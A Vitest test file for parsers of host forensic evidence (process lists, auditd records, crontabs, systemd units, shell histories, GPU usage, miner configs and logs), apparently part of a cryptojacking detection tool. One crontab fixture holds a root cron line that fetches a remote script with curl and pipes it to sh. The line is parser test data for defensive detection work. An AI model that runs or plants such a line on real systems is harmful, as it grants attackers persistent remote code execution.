import { describe, expect, it } from 'vitest'
import { clockSeconds } from '../row/process-row.js'
import { auditd } from './auditd.js'
import { cpuSeries } from './cpu-series.js'
import { crontab } from './crontab.js'
import { gpuList } from './gpu-list.js'
import { processList } from './process-list.js'
import { shellHistory } from './shell-history.js'
import type { TextReaderOf } from './text-reader.js'
import { unit } from './unit.js'
import { minerConfigText, minerLogText } from './whole-text.js'

function read(of: TextReaderOf, text: string) {
  const reader = of('f')
  const odd: number[] = []
  const found = []
  for (const [i, line] of text.split('\n').entries()) {
    if (!reader.line(line, i + 1)) odd.push(i + 1)
    found.push(...reader.taken())
  }
  found.push(...reader.end())
  return { odd, found, pictures: found.map(({ picture }) => picture) }
}

it.each([
  ['3088:23', 185_303],
  ['750:29.39', 45_029.39],
  ['1-02:03:04', 93_784],
  ['22h10', 79_800],
  ['soon', null],
])('reads processor time %s', (text, seconds) => {
  expect(clockSeconds(text)).toBe(seconds)
})

describe('texts of hosts', () => {
  it('ps aux', () => {
    const { pictures } = read(
      processList,
      'USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot 9 0.0 0.0 0 0 ? I 10:00 0:00 [kworker/0:1]\nme 77 99.5 14.1 2439464 3272 ? Sl 10:00 3088:23 /tmp/a -o x:1\n',
    )
    expect(pictures[0]?.processes).toMatchObject([
      { pid: 9, name: 'kworker/0:1', cmdline: '', virtualKib: 0 },
      { pid: 77, user: 'me', cpuPct: 99.5, cmdline: '/tmp/a -o x:1', cpuSeconds: 185_303 },
    ])
  })

  it('top, the last look', () => {
    const { pictures } = read(
      processList,
      '%Cpu(s): 98.0 us,  1.0 sy,  0.0 ni,  0.5 id\n  PID USER PR NI VIRT RES SHR S %CPU %MEM TIME+ COMMAND\n 4116 root 20 0 2439464 3272 2000 S 200.3 0.0 750:29.39 .ddns\n\n  PID USER PR NI VIRT RES SHR S %CPU %MEM TIME+ COMMAND\n 4116 root 39 19 2.3g 3272 2000 S 190.0 0.0 751:00.00 .ddns\n',
    )
    expect(pictures[0]).toMatchObject({ cpu: { busyPct: 99.5 }, processes: [{ name: '.ddns', cpuPct: 190, nice: 19 }] })
    expect(pictures[0]?.processes[0]?.virtualKib).toBeCloseTo(2.3 * 1024 ** 2)
  })

  it('auditd: one event a serial number, arguments in hexadecimal', () => {
    const { found } = read(
      auditd,
      'type=SYSCALL msg=audit(1700000000.5:7): arch=c000003e syscall=59 ppid=1 pid=44 uid=33 comm="sh" exe="/bin/dash"\ntype=EXECVE msg=audit(1700000000.5:7): argc=3 a0="sh" a1="-c" a2=6C73202D6C\ntype=SYSCALL msg=audit(1700000001.5:8): pid=45 exe="/bin/ls"',
    )
    expect(found).toMatchObject([
      {
        line: 1,
        picture: {
          time: '2023-11-14T22:13:20.500Z',
          processes: [{ pid: 44, path: '/bin/dash', argv: ['sh', '-c', 'ls -l'] }],
        },
      },
      { line: 3, picture: { processes: [{ pid: 45 }] } },
    ])
  })

  it('a table of cron', () => {
    const { pictures, odd } = read(
      crontab,
      'SHELL=/bin/sh\n# x\n*/5 * * * * root curl http://192.0.2.1/a | sh\n@reboot /opt/a\nnonsense\n',
    )
    expect(pictures[0]?.commands).toMatchObject([
      { schedule: '*/5 * * * *', user: 'root', text: 'curl http://192.0.2.1/a | sh', line: 3 },
      { schedule: '@reboot', text: '/opt/a' },
    ])
    expect(odd).toEqual([5])
  })

  it('a unit', () => {
    expect(
      read(unit, '[Service]\nExecStart=-/opt/a -b\nRestart=always\nCPUWeight=1\n').pictures[0]?.units[0],
    ).toMatchObject({ exec: ['/opt/a -b'], restart: 'always', cpuWeight: 1 })
  })

  it('histories of bash and zsh', () => {
    expect(read(shellHistory, '#1700000000\nls -l\ncd /tmp').found).toMatchObject([
      { line: 2, picture: { time: '2023-11-14T22:13:20.000Z', commands: [{ text: 'ls -l' }] } },
      { line: 3, picture: { time: null } },
    ])
    expect(read(shellHistory, ': 1700000000:0;ls -l').pictures[0]?.commands[0]?.text).toBe('ls -l')
  })

  it('nvidia-smi, the last look at each board', () => {
    const text =
      'index, name, utilization.gpu [%], memory.used [MiB], pcie.link.width.current\n0, G, 10 %, 100 MiB, 1\n0, G, 99 %, 5000 MiB, 1\n1, G, 98 %, 5000 MiB, 1\n'
    expect(read(gpuList, text).pictures[0]?.gpus).toMatchObject([
      { utilizationPct: 99, memoryUsedMib: 5000, pcieWidth: 1 },
      { utilizationPct: 98 },
    ])
  })

  it('configurations and logs of miners, and series of load', () => {
    expect(read(minerConfigText, 'wallet = x\n').pictures[0]?.configs[0]?.text).toContain('wallet')
    expect(read(minerLogText, '\u001b[1;32maccepted\u001b[0m (1/0)').pictures[0]?.log).toEqual(['accepted (1/0)'])
    expect(read(cpuSeries, 't_s,cpu_pct\n0,51\n1,52').pictures[0]?.cpu?.seriesPct).toEqual([51, 52])
  })
})
